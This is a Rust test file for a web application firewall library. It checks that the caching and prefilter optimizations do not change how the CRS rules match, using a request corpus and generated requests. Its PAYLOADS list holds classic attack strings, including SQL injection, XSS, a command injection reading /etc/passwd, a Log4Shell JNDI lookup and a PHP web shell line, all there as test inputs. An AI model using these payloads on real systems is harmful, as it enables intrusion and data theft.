//! Transform-once and scan-once change speed, never decisions: with the transformation memo
//! and the prefilter switched on or off, CRS v4.28 (PL2, so that more rules run) gives the same
//! matched rules, the same matched variables and values, the same messages and the same
//! interruptions — over the whole shared corpus and over generated requests.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::OnceLock;

use palisade::Waf;
use palisade::replay::Request;
use proptest::prelude::*;

fn waf(memoize: bool, prefilter: bool) -> Waf {
    let conf = palisade_testdata::bench_dir().join("modsec/conf/crs4-pl2.conf");
    Waf::builder()
        .rules_file(conf)
        .optimizations(memoize, prefilter)
        .build()
        .unwrap_or_else(|e| panic!("{e}"))
}

fn wafs() -> &'static [Waf; 4] {
    static W: OnceLock<[Waf; 4]> = OnceLock::new();
    W.get_or_init(|| {
        [
            waf(true, true),
            waf(false, false),
            waf(true, false),
            waf(false, true),
        ]
    })
}

/// Everything observable about a transaction.
fn outcome(waf: &Waf, r: &Request) -> String {
    let mut tx = waf.transaction_with_id("same-id");
    let (ip, port) = palisade::replay::client_address(r.id);
    tx.process_connection(&ip, port, "198.18.255.1", 443);
    tx.process_uri(&r.uri, &r.method, r.version.trim_start_matches("HTTP/"));
    for (k, v) in &r.headers {
        tx.add_request_header(k, v);
    }
    let mut out = String::new();
    let i1 = tx.process_request_headers();
    tx.append_request_body(&r.body);
    let i2 = tx.process_request_body();
    out.push_str(&format!("{i1:?}\n{i2:?}\n"));
    for m in tx.matched_rules() {
        out.push_str(&format!(
            "{} {} {:?} {:?} {} {:?}\n",
            m.id(),
            m.msg(),
            m.logdata(),
            m.matched_var_name(),
            String::from_utf8_lossy(m.matched_var()),
            m.tags()
        ));
    }
    out.push_str(&tx.error_log().join("\n"));
    out
}

fn corpus() -> Vec<Request> {
    let text =
        std::fs::read_to_string(palisade_testdata::bench_dir().join("requests.jsonl")).unwrap();
    text.lines()
        .map(|l| palisade::replay::parse_corpus_line(l, 0).unwrap().0)
        .collect()
}

#[test]
fn corpus_outcomes_do_not_depend_on_optimizations() {
    let w = wafs();
    let mut checked = 0;
    for r in corpus() {
        let base = outcome(&w[0], &r);
        for (i, other) in w.iter().enumerate().skip(1) {
            assert_eq!(
                base,
                outcome(other, &r),
                "request {} differs with variant {i}",
                r.id
            );
        }
        checked += 1;
    }
    println!("optimizations: {checked} corpus requests, 4 variants each, 0 differences");
}

const PAYLOADS: &[&str] = &[
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://x/a}",
    "<?php system($_GET[c]); ?>",
    "UNION SELECT password FROM users",
    "%3Cscript%3E",
    "javascript:alert(1)",
    "admin'--",
    "SLEEP(5)",
    "\u{00e9}t\u{00e9}",
    "AbC dEf",
    "%u0027",
];

prop_compose! {
    fn request()(
        base in 0usize..2000,
        name in "[a-zA-Z_\\[\\]]{1,8}",
        payload in proptest::sample::select(PAYLOADS),
        noise in "[ -~]{0,20}",
        place in 0u8..4,
    ) -> Request {
        let corpus = corpus_cached();
        let mut r = corpus[base % corpus.len()].clone();
        let value = format!("{noise}{payload}");
        let enc: String = value
            .bytes()
            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
            .collect();
        match place {
            0 => {
                let sep = if r.uri.contains('?') { '&' } else { '?' };
                r.uri = format!("{}{sep}{name}={enc}", r.uri);
            }
            1 => r.headers.push((format!("X-{name}"), value)),
            2 => r.headers.push(("Cookie".into(), format!("{name}={enc}"))),
            _ => {
                r.method = "POST".into();
                r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case("content-type"));
                r.headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
                r.body = format!("{name}={enc}").into_bytes();
            }
        }
        r
    }
}

fn corpus_cached() -> &'static [Request] {
    static C: OnceLock<Vec<Request>> = OnceLock::new();
    C.get_or_init(corpus)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, .. ProptestConfig::default() })]
    #[test]
    fn generated_outcomes_do_not_depend_on_optimizations(r in request()) {
        let w = wafs();
        let base = outcome(&w[0], &r);
        for other in w.iter().skip(1) {
            prop_assert_eq!(&base, &outcome(other, &r));
        }
    }
}
